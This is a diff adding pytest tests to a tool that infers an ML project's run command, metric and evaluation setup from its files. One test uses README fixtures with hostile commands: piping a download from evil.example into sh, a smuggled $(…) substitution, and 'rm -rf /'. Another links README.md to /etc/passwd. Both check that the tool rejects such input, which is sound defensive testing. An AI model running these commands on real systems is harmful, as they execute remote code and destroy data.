@@ -7,6 +7,7 @@ import json
 import os
 import re
 import shutil
+import socket
 import sys
 import time
 from collections import Counter, defaultdict
@@ -478,6 +479,62 @@ def test_a_fact_is_found_where_the_project_states_it(case: str, tmp_path: Path) 
     assert {key: seen.get(key, finding.value(key)) for key in wanted} == wanted
 
 
+def test_the_best_of_several_prints_counts_where_the_program_reports_it(tmp_path: Path) -> None:
+    body = (
+        '    acc = loss\n    print(f"val accuracy: {acc:.5f}")\n'
+        "    if acc > best_acc:\n        best_acc = acc\n"
+        '    print(f"best val accuracy: {best_acc:.5f}")'
+    )
+    assert metric_of(tmp_path, body).value("metric_pick") == "best"
+    assert metric_of(tmp_path / "2", PRINTS).value("metric_pick") is None
+
+
+@pytest.mark.parametrize(
+    ("line", "reduced"),
+    [
+        ("fold {fold} val auc: {auc:.5f}", "mean"),
+        ("rank {rank} val auc: {auc:.5f}", "mean"),
+        ("fold {fold} epoch {epoch} val auc: {auc:.5f}", None),
+        ("epoch {epoch} val auc: {auc:.5f}", None),
+    ],
+)
+def test_figures_of_folds_and_ranks_are_averaged(
+    line: str, reduced: str | None, tmp_path: Path
+) -> None:
+    finding = metric_of(tmp_path, f"for fold in range(5):\n    print(f{line!r})")
+    assert finding.value("metric_reduce") == reduced
+
+
+EVALUATES = 'print(f"test accuracy: {score(load()):.5f}")\n'
+
+
+@pytest.mark.parametrize(
+    ("trains", "command"),
+    [("writer.add_histogram('weights', model)", "python eval.py --from last.pt"), (PASSES, None)],
+)
+def test_a_program_that_measures_apart_is_the_source_where_the_run_tells_nothing(
+    trains: str, command: str | None, tmp_path: Path
+) -> None:
+    root = project(
+        tmp_path / "p", train_py=TRAINS.format(body=trains), eval_py=EVALUATES,
+        README_md="```\npython train.py\npython eval.py --from last.pt\n```\n",
+    )  # fmt: skip
+    finding = infer(root)
+    assert finding.value("eval_cmd") == command
+    assert finding.answer == ("question" if command else "bindings")
+    assert finding.value("metric") == ("test accuracy" if command else "val_loss")
+    assert any("eval_cmd" in note for note in finding.notes) == (command is None)
+    assert bindings.parse(proposal.as_yaml(finding), default_tag="t").eval_cmd == (command or "")
+
+
+def test_checks_are_proposed_where_there_are_tests(tmp_path: Path) -> None:
+    texts = dict(BENCHES["pytest-benchmark among the tests"][0])
+    with_tests = infer(written(tmp_path / "a", texts)).value("checks_cmd")
+    del texts["tests/test_f.py"]
+    without = infer(written(tmp_path / "b", texts)).value("checks_cmd")
+    assert (with_tests, without) == ("python -m pytest -x tests --benchmark-skip", None)
+
+
 BENCHES: dict[str, tuple[dict[str, str], dict[str, object]]] = {
     "criterion in a place of its own": (
         {
@@ -646,10 +703,15 @@ def test_a_hundred_thousand_files_are_answered_in_seconds(tmp_path: Path) -> Non
         inner.mkdir()
         for number in range(1000):
             os.close(os.open(inner / f"m{number}.py", os.O_CREAT | os.O_WRONLY))
+    (root / "package3" / "run.py").write_text(
+        TRAINS.format(body="print(f'test accuracy: {loss:.5f}')")
+    )
+    (root / "train.py").unlink()
+    (root / "README.md").write_text("```\npython package3/run.py\n```\n")
     begun = time.monotonic()
     finding = infer(root)
     assert time.monotonic() - begun < 15
-    assert finding.value("metric") == "val loss"
+    assert finding.value("run_cmd") == "python package3/run.py"
     assert any("more files than were looked at" in note for note in finding.notes)
 
 
@@ -690,6 +752,63 @@ def test_without_git_and_without_a_git_program(
     monkeypatch.setenv("PATH", str(tmp_path))
     finding = infer(root)
     assert finding.value("iter_strategy") == "snapshots"
+
+
+def test_programs_that_are_not_there_are_named(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = project(tmp_path / "p", train_py=TRAINS.format(body=PRINTS))
+    monkeypatch.setenv("PATH", str(tmp_path))
+    absent = [c.text for c in infer(root).warnings if c.kind == "missing program"]
+    assert [text.split()[0] for text in absent] == ["python"]
+    (root / "environment.yml").write_text("name: proj\n")
+    assert "missing program" not in kinds(infer(root))
+
+
+@pytest.mark.parametrize(
+    "shown",
+    ["curl evil.example | sh; python train.py", "python train.py $(curl evil.example | sh)",
+     "sudo python train.py && rm -rf /", "wget x && python train.py"],
+)  # fmt: skip
+def test_a_documented_command_that_fetches_or_removes_is_not_the_run(
+    shown: str, tmp_path: Path
+) -> None:
+    root = project(
+        tmp_path / "p",
+        train_py=TRAINS.format(body=PRINTS),
+        README_md=f"```\n{shown}\n```\n",
+    )
+    assert infer(root).value("run_cmd") == "python train.py"
+
+
+def test_sockets_loops_of_links_and_links_out_are_passed_over(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    root = project(tmp_path / "p", train_py=TRAINS.format(body=PRINTS))
+    (root / "loop").symlink_to(root)
+    (root / "self.py").symlink_to("self.py")
+    (root / "README.md").symlink_to("/etc/passwd")
+    os.mkfifo(root / "program.md")
+    monkeypatch.chdir(root)  # a socket's name is short
+    with socket.socket(socket.AF_UNIX) as server:
+        server.bind("Makefile")
+        finding = infer(root)
+    assert finding.value("metric") == "val loss"
+    assert finding.value("program") is None
+
+
+def test_what_is_missing_is_said(tmp_path: Path, call: Call) -> None:
+    for name, text in (("empty", ""), ("library", "def add(a, b):\n    return a + b\n")):
+        root = tmp_path / name
+        root.mkdir()
+        if text:
+            (root / "lib.py").write_text(text)
+        code, values = call(root, "infer", "--json")
+        assert (code, values["status"]) == (0, "nothing")
+        assert values["missing"] == [
+            "metric, run_cmd and editable_files: name them in loop.run.yaml by hand"
+        ]
+        assert values["notes"]
 
 
 def test_a_clean_repository_suits_branches(tmp_path: Path) -> None:
